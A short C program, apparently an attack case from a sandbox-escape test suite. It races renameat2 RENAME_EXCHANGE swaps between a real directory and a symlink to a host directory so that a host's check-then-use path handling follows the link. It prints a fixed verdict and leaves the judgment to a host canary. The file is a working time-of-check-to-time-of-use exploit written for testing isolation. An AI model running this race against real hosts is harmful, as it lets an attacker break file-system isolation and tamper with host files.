/* Attack on the host's file API, racing: swap a real directory and a symlink to a host directory as fast
 * as the kernel allows (renameat2 RENAME_EXCHANGE), so that a host check-then-use sees the real directory
 * and then follows the link. argv[1]: real dir, argv[2]: link; runs until killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    printf("VERDICT: BLOCKED\n");  /* the host judges: its canary must stay untouched */
    fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) { perror("renameat2"); return 1; }
}
